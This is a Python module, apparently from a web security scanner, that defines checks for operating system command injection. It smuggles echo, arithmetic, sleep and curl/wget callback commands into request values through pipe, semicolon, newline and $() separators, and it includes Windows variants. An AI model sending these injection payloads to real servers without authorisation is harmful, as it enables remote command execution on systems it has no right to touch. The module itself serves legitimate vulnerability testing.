"""Operating system commands: a shell reads the value, and works something out, waits, or calls back."""

from collections.abc import Iterator

from threatweaver_appsec.engine.agent import (
    About,
    Agent,
    Attempt,
    Nonce,
    PointAgent,
    Proof,
    Safety,
    Severity,
    Sight,
)
from threatweaver_appsec.engine.agents.attacks import Lead, Oracle, calls, in_request, prints, text_of
from threatweaver_appsec.engine.agents.compare import moved
from threatweaver_appsec.engine.agents.delays import Delay, waits
from threatweaver_appsec.engine.messages import Exchange
from threatweaver_appsec.engine.points import Point

# {0} is what to run. Each works bare, between single quotes and between double ones: what stands before the
# quote is a string or a comment there. The first is the widest; the others are for filters on the pipe.
SHELLS = (
    "|{0} #'|{0} #\"|{0} #",
    ";{0} #';{0} #\";{0} #",
    "\n{0} #'\n{0} #\"\n{0} #",
    "$({0})",
)
WINDOWS = '|{0}&rem "|{0}&rem '

REMEDY = (
    "Call the program with a list of arguments and no shell, and allow only values that it may be given;"
    " better, use a library instead of a program."
)
SAYS = "A shell on the server ran a part of the value"


def _printing(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    value = text_of(point, "1")
    lead = Lead()
    for index, shape in enumerate(SHELLS):
        one, two, word = nonce.number(10_000, 99_999), nonce.number(10_000, 99_999), nonce.word(5)
        run = value + shape.format(f"echo {word}$(({one}*{two})){word}")
        not_run = value + shape.format(f"ehco {word}")
        found = prints(f"{word}{one * two}{word}", f"{SAYS}: it printed the product of {one} and {two}.")

        def first(sight: Sight, run: str = run, found: Oracle = found) -> Proof | None:
            """What answers this as it answers anything shows no command's output."""
            other = any(moved(sight, one, text_of(point), run) for one in sight.exchanges)
            lead.known = {"shown"} if other else set()
            return found(sight)

        attempt = Attempt((run,), found if index else first, (not_run,))
        yield lead.only("shown", attempt) if index else attempt
    one, two = nonce.number(10_000, 30_000), nonce.number(10_000, 60_000)
    run, not_run = (WINDOWS.format(f"{name} /a {one}*{two}") for name in ("set", "ste"))
    shows = prints(str(one * two), f"{SAYS}: cmd.exe printed the product of {one} and {two}.")
    yield lead.only("shown", Attempt((value + run,), shows, (value + not_run,)))


def _sleeping(shape: str) -> Delay:
    return lambda seconds: shape.replace("{0}", f"sleep {seconds:g}")


def _waiting(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    value = text_of(point, "1")
    for shape in SHELLS:
        yield from waits(
            _sleeping(value + shape),
            nonce,
            f"{SAYS}: its answer waits as long as `sleep` is told.",
        )


def _calling(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    value = text_of(point, "1")
    for shape in SHELLS[:2]:
        url = nonce.callback()
        if url is None:
            return
        says = f"{SAYS}: it fetched a URL that only this request named."
        run = shape.format(f"(curl -s {url}||wget -qO- {url})")
        yield calls(value + run, url, value + shape.format(f"lruc -s {nonce.word()}"), says, patience=1.5)


AGENTS: tuple[Agent, ...] = (
    PointAgent(
        About(
            id="os-command",
            title="Operating system command injection",
            cwe=78,
            owasp="A03:2021",
            severity=Severity.CRITICAL,
            safety=Safety.SAFE,
            description="A value becomes part of a command line: its sender runs programs on the server.",
            remedy=REMEDY,
        ),
        wants=in_request,
        attempts=_printing,
    ),
    PointAgent(
        About(
            id="os-command-time",
            title="Operating system command injection (blind)",
            cwe=78,
            owasp="A03:2021",
            severity=Severity.CRITICAL,
            safety=Safety.INTRUSIVE,
            description="A value becomes part of a command line whose output is not shown: the answer waits"
            " as long as the value says.",
            remedy=REMEDY,
        ),
        wants=in_request,
        attempts=_waiting,
    ),
    PointAgent(
        About(
            id="os-command-callback",
            title="Operating system command injection (out of band)",
            cwe=78,
            owasp="A03:2021",
            severity=Severity.CRITICAL,
            safety=Safety.INTRUSIVE,
            description="A value becomes part of a command line whose output is not shown: the server fetches"
            " a URL that the value names.",
            remedy=REMEDY,
        ),
        wants=in_request,
        attempts=_calling,
    ),
)
